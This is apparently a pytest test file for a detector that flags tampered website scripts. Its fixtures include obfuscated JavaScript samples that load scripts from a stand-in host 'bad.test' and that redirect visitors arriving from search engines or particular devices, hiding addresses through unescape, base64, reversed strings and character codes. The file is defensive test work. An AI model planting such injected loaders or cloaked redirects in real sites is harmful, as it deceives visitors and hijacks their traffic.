from base64 import b64encode
from urllib.parse import quote

import pytest

from app.domain.tampering import TamperSign
from app.engines.analyse.own_site.own_scripts import examine_scripts, looks_odd, may_send_away
from app.engines.html.marks import find_marks
from app.engines.html.own_page import OwnText

PAGE = "https://www.corp.test/"
DISGUISED = "document.write(unescape('%3Cscript src=%22http://%62%61%64.test/a.js%22%3E%3C/script%3E'))"
STATISTICS = DISGUISED.replace("%62%61%64", "count")


def found(code, known=()):
    return list(examine_scripts([OwnText(code, "html > head > script")], PAGE, lambda host: host in known))


def test_a_disguised_script_that_writes_a_foreign_one_is_a_sign():
    (sign,) = found(DISGUISED)
    assert (sign.sign, sign.leads_to) == (TamperSign.SCRIPT_WRITES, ("http://bad.test/a.js",))
    assert sign.raw in DISGUISED
    assert "bad.test" in sign.snippet


def test_services_that_are_known_and_the_site_itself_write_as_they_like():
    assert found(DISGUISED, known={"bad.test"}) == []
    assert found(DISGUISED.replace(".test/", ".corp.test/")) == []


@pytest.mark.parametrize(
    "code",
    [
        STATISTICS,  # escaped, as some services tell one to, and everybody can read who it is
        "document.write('<script src=\"http://bad.test/a.js\"></scr'+'ipt>')",  # plain: a reference, and no sign
        "var t = unescape('%E4%BD%A0%E5%A5%BD%2C%20http%3A%2F%2Fb.test')",  # a text
    ],
)
def test_what_is_not_disguised_or_writes_nothing_is_no_sign(code):
    assert found(code) == []


@pytest.mark.parametrize(
    "code",
    [
        "var r=document.referrer;if(/baidu|sogou/.test(r)){location.href='https://bad.test/x'}",
        "if(document.referrer.indexOf('google.')>0) window.location.replace('//bad.test/x');",
        "if(/Baiduspider|Googlebot/i.test(navigator.userAgent)) location = 'https://bad.test/x';",
    ],
)
def test_who_sends_visitors_of_search_engines_or_robots_elsewhere_is_found(code):
    (sign,) = found(code)
    assert (sign.sign, sign.leads_to) == (TamperSign.SCRIPT_REDIRECTS, ("https://bad.test/x",))
    assert looks_odd(code, find_marks(code.lower().encode()))


@pytest.mark.parametrize(
    "code",
    [
        "if(/Android|iPhone/i.test(navigator.userAgent)) location.href='https://m.corp.test/'",
        "if(/iPhone/.test(navigator.userAgent)) location.href='https://apps.store.test/app'",
        "if(/MicroMessenger/.test(navigator.userAgent)) location.href='https://open.pay.test/login'",
        "var s=document.referrer; send('https://stat.test/?r='+s+'&e=baidu')",
        "location.href='https://partner.test/'",
    ],
)
def test_phones_apps_statistics_and_plain_redirects_are_none(code):
    assert found(code) == []


def test_an_address_that_is_written_backwards_or_decoded_twice_is_read():
    backwards = "http://bad.test/tz"[::-1]
    code = f"""var s="{backwards}".split("").reverse().join("");document.write("<ifr"+"ame src="+s+">")"""
    assert [sign.leads_to for sign in found(code)] == [("http://bad.test/tz",)]
    twice = b64encode(quote("<a href=https://bad.test/>x</a>", safe="").encode()).decode()
    assert [sign.leads_to for sign in found(f'document.body.innerHTML=decodeURIComponent(atob("{twice}"))')] == [
        ("https://bad.test/",)
    ]
    assert found('var a="abcdefghijk".split("").reverse().join("");document.write(a)') == []


PHONES = "if(/Android|iPhone/i.test(navigator.userAgent)%s){location.replace('https://m.bad.test/')}"
ONCE = '&&document.cookie.indexOf("v=1")<0'


def test_who_sends_phones_elsewhere_once_a_day_is_found():
    assert [sign.sign for sign in found(PHONES % ONCE)] == [TamperSign.SCRIPT_REDIRECTS]
    assert found(PHONES % "") == []  # a site for phones that is somebody's own
    assert found((PHONES % ONCE).replace("m.bad.test", "m.corp.test")) == []
    assert found(PHONES % ONCE, known={"m.bad.test"}) == []


def test_a_redirect_whose_address_and_whose_method_are_computed_is_found():
    address = b64encode(b"https://bad.test/prize").decode()
    code = f'if(document.referrer){{location[atob("cmVwbGFjZQ==")](atob("{address}"))}}'
    assert [(sign.sign, sign.leads_to) for sign in found(code)] == [
        (TamperSign.SCRIPT_REDIRECTS, ("https://bad.test/prize",))
    ]
    assert found(code.replace(address, b64encode(b"https://www.corp.test/prize").decode())) == []


SEARCH = "if(document.referrer.indexOf('baidu')>0)"


def test_a_redirect_by_a_name_whose_address_is_disguised_is_a_sign():
    code = f"var s=unescape('%68%74%74%70%73://%62%61%64.test/');{SEARCH}{{self.location=s}}"
    (sign,) = found(code)
    assert (sign.sign, sign.leads_to) == (TamperSign.SCRIPT_REDIRECTS, ("https://bad.test/",))
    assert "https://bad.test/" in sign.snippet


@pytest.mark.parametrize(
    "code",
    [
        f"var s='https://m.corp.test/';{SEARCH}{{location=s}}",
        f"var s=unescape('%68%74%74%70%73://%62%61%64.test/');{SEARCH}{{count(s)}}",
        f"var s=unescape('%68%74%74%70%73://%6d.corp.test/');{SEARCH}{{self.location=s}}",
    ],
)
def test_a_plain_name_or_no_question_about_search_engines_is_none(code):
    assert found(code) == []


BY_LIST = (
    "var x=['https://prize.foreign.example/lp','google.'];"
    "if(document.referrer.indexOf(x[1])>-1){setTimeout(function(){location.replace(x[0])},300)}"
)


@pytest.mark.parametrize("code", [BY_LIST, BY_LIST.replace("location.replace(x[0])", "location.href=x[0];")])
def test_an_entry_of_a_list_leads_away_who_comes_from_a_search_engine(code):
    found = list(examine_scripts([OwnText(code, "")], "https://www.school.example/", lambda _: False))
    assert [(one.sign, one.leads_to) for one in found] == [
        (TamperSign.SCRIPT_REDIRECTS, ("https://prize.foreign.example/lp",))
    ]


@pytest.mark.parametrize(
    "code",
    [
        BY_LIST.replace("prize.foreign.example", "m.school.example"),
        BY_LIST.replace("google.", "partner."),  # no search engine
        BY_LIST.replace("location.replace(x[0])", "count(x[0])"),
        BY_LIST.replace("prize.foreign.example/lp", "www.google.com/analytics"),
    ],
)
def test_own_addresses_other_referrers_and_counters_lead_nobody_away(code):
    assert list(examine_scripts([OwnText(code, "")], "https://www.school.example/", lambda _: False)) == []


PUT_TOGETHER = (
    "if(!/spider|bot/i.test(navigator.userAgent))"
    '{var h="htt"+"ps:/"+"/"+["wb","17"].join("-")+".test";top.location=h+"/?c=x"}'
)


def test_an_address_that_is_put_together_is_read():
    (sign,) = found(PUT_TOGETHER)
    assert (sign.sign, sign.leads_to) == (TamperSign.SCRIPT_REDIRECTS, ("https://wb-17.test/?c=x",))


@pytest.mark.parametrize(
    "choice",
    [
        "new Date().getHours()>21&&Math.random()<.3",
        "!navigator.webdriver&&!localStorage.seen",
        "Intl.DateTimeFormat().resolvedOptions().timeZone=='Asia/Shanghai'&&document.cookie.indexOf('v')<0",
        "/Mobile|Android/.test(navigator.userAgent)&&!sessionStorage.s",
    ],
)
def test_who_chooses_visitors_in_two_ways_and_sends_them_elsewhere_is_found(choice):
    code = f"if({choice})location.href='https://bad.test/'"
    assert [sign.sign for sign in found(code)] == [TamperSign.SCRIPT_REDIRECTS]
    assert may_send_away(code, find_marks(code.lower().encode()))
    assert found(code, known={"bad.test"}) == []
    assert found(code.replace("bad.test", "m.corp.test")) == []


@pytest.mark.parametrize(
    "choice",
    ["new Date().getHours()>21", "!localStorage.seen", "Math.random()<.5", "!localStorage.x&&document.cookie.length<9"],
)
def test_one_choice_alone_is_everyday(choice):
    assert found(f"if({choice})location.href='https://bad.test/'") == []


def test_who_chooses_far_from_where_it_leads_is_everyday():
    code = f"setTimeout(load,Math.random());localStorage.x=1;{'/* */' * 200}location.href='https://bad.test/'"
    assert found(code) == []


def test_only_scripts_about_search_engines_and_robots_make_a_page_worth_to_be_compared():
    code = "if(new Date().getHours()>21&&!localStorage.x)location.href='https://bad.test/'"
    assert not looks_odd(code, find_marks(code.encode()))


def test_what_many_scripts_say_is_read_up_to_a_limit():
    """A page of 400 KB cost seconds: each of its scripts became a hundred times as long."""
    packed = f"eval(function(p,a,c,k,e,d){{}}('{'0 ' * 2_000}',2,2,'{'x' * 1_000}|'.split('|'),0,{{}}))"
    scripts = [OwnText(f"{packed};document.referrer;var number = {number}", "html > script") for number in range(400)]
    read = []

    def one_by_one():
        for script in scripts:
            read.append(script)
            yield script

    assert list(examine_scripts(one_by_one(), PAGE, lambda _: False)) == []
    assert len(read) < 30
    assert found(DISGUISED) != []


def test_scripts_that_say_nothing_hide_none_that_stands_behind_them():
    padding = [OwnText(f"var state{number}='{'x' * 250_000}'", "html > script") for number in range(20)]
    scripts = [*padding, OwnText(DISGUISED, "html > script")]
    assert [one.sign for one in examine_scripts(scripts, PAGE, lambda _: False)] == [TamperSign.SCRIPT_WRITES]


@pytest.mark.parametrize(
    "code",
    [
        "var s=unescape('%68%74%74%70%73://%62%61%64.test/');if(menu.value){location=s}",
        "setTimeout(function(){top.location.href=unescape('%68%74%74%70%73://%62%61%64%2e%74%65%73%74')},900)",
        "document.addEventListener('click',function(){window.open('https://bad.test/')})",
        "history.pushState(null,'');window.onpopstate=function(){location.href='https://bad.test/'}",
        "Notification.requestPermission().then(function(){location.href='https://bad.test/'})",
        (
            "var r=document.referrer,u=String.fromCharCode(104,116,116,112,115,58,47,47,98,97,100,46,116,101,115,116);"
            "if(/google/.test(r))location.replace(u+'/x')"
        ),
    ],
)
def test_who_is_sent_where_nobody_meant_to_go_is_sent_away(code):
    assert [sign.sign for sign in found(code)] == [TamperSign.SCRIPT_REDIRECTS]


@pytest.mark.parametrize(
    "code",
    [
        "document.addEventListener('click',hide);function hide(){m.hidden=1}function shop(){location='https://partner.test/'}",
        "window.onclick=function(){d.close()};b.onclick=function(){window.open('https://partner.test/')}",
    ],
)
def test_who_listens_to_clicks_for_something_else_sends_nobody_away(code):
    assert found(code) == []


def test_a_click_on_what_is_meant_for_it_opens_what_it_says():
    code = (
        "document.addEventListener('click',function(e){if(e.target.matches('.x'))window.open('https://partner.test/')})"
    )
    assert found(code) == []


@pytest.mark.parametrize(
    "address", ["https://www.MyPartner.test/in", "https://www.bäckerei-müller.de/", "https://me@Partner.test:8443/a"]
)
def test_a_host_with_capitals_or_umlauts_is_not_disguised(address):
    assert found(f"var r=document.referrer;function go(){{window.open('{address}')}}") == []
    loads = "var r=document.referrer;var s=document.createElement('script');"
    assert found(f"{loads}s.src='{address}'") == []


def test_a_host_that_is_put_together_is_disguised():
    code = "var r=document.referrer;window.open('https://b'+'ad.te'+'st/')"
    assert [sign.sign for sign in found(code)] == [TamperSign.SCRIPT_REDIRECTS]


BACKWARDS = (
    "var C={to:'%s',from:['elgoog','oohay']};(function(c){var f=function(x){return x.split('').reverse().join('')},"
    "r=document['refe'+'rrer'];for(var i in c.from)if(r.indexOf(f(c.from[i]))>0)"
    "window['loca'+'tion']['rep'+'lace'](f(c.to))})(C)"
)


def test_visitors_of_engines_whose_names_stand_backwards_are_sent_to_an_address_that_does_as_well():
    code = BACKWARDS % "https://land.bad.test/x"[::-1]
    (sign,) = found(code)
    assert (sign.sign, sign.leads_to) == (TamperSign.SCRIPT_REDIRECTS, ("https://land.bad.test/x",))
    assert may_send_away(code, find_marks(code.lower().encode()))


@pytest.mark.parametrize(
    "code",
    [
        BACKWARDS % "https://www.corp.test/welcome"[::-1],
        (BACKWARDS % "https://land.bad.test/x"[::-1]).replace("elgoog", "eert-a").replace("oohay", "dlrow"),
        (BACKWARDS % "https://land.bad.test/x"[::-1]).replace("['rep'+'lace'](f(c.to))", "['ha'+'sh']='#top'"),
    ],
)
def test_the_own_site_other_words_and_places_of_the_page_are_no_redirect(code):
    assert found(code) == []


def test_a_script_that_hides_the_word_script_and_an_address_loads_one():
    words = ["script", "src", "//cdn.bad.test/lib.js", "head", "appendChild", "cookie"]
    listed = ",".join(f"'{b64encode(word.encode()).decode()}'" for word in words)
    code = (
        f"function _l(){{return [{listed}]}}function _w(i){{return atob(_l()[i])}}var s=document.createElement(_w(0))"
    )
    (sign,) = found(code)
    assert (sign.sign, sign.leads_to[0]) == (TamperSign.SCRIPT_WRITES, "https://cdn.bad.test/lib.js")
    assert found(code.replace(b64encode(b"script").decode(), b64encode(b"canvas").decode())) == []


CODES = ",".join(str(ord(one)) for one in "https://bad.test/a.js")


@pytest.mark.parametrize(
    "code",
    [
        f"var s=document.createElement('script');s.src=String.fromCharCode({CODES});document.head.appendChild(s)",
        f"var s=document.createElement('script');s.setAttribute('src',String.fromCharCode({CODES}))",
        f"$.getScript(String.fromCharCode({CODES}))",
        f"if(location.pathname.indexOf('checkout')>0)$.getScript(atob('{b64encode(b'https://bad.test/a.js').decode()}'))",
    ],
)
def test_a_script_whose_host_cannot_be_read_is_a_sign(code):
    assert [(one.sign, one.leads_to) for one in found(code)] == [(TamperSign.SCRIPT_WRITES, ("https://bad.test/a.js",))]
    assert found(code, known={"bad.test"}) == []


@pytest.mark.parametrize(
    "code",
    [
        # a statistics loader, a tag manager, a polyfill with a fallback, and an A/B tool: all name their hosts
        "var s=document.createElement('script');s.src='https://stat.users.test/'+atob('YS5qcw==');d.appendChild(s)",
        "(function(w,d,s,l,i){var j=d.createElement(s);j.src='https://tags.users.test/gtm.js?id='})(w,document,'script')",
        "window.fetch||document.write('<script src=\"https://poly.users.test/f.js\"><\\/script>');String.fromCharCode(1,2,3,65)",
        "$.getScript('https://ab.users.test/t.js');var key=String.fromCharCode(97,98,99,100)",
        "var s=document.createElement('script');s.src=String.fromCharCode(47,106,115,47,97,46)",  # own
    ],
)
def test_loaders_that_name_their_host_are_none(code):
    assert found(code) == []
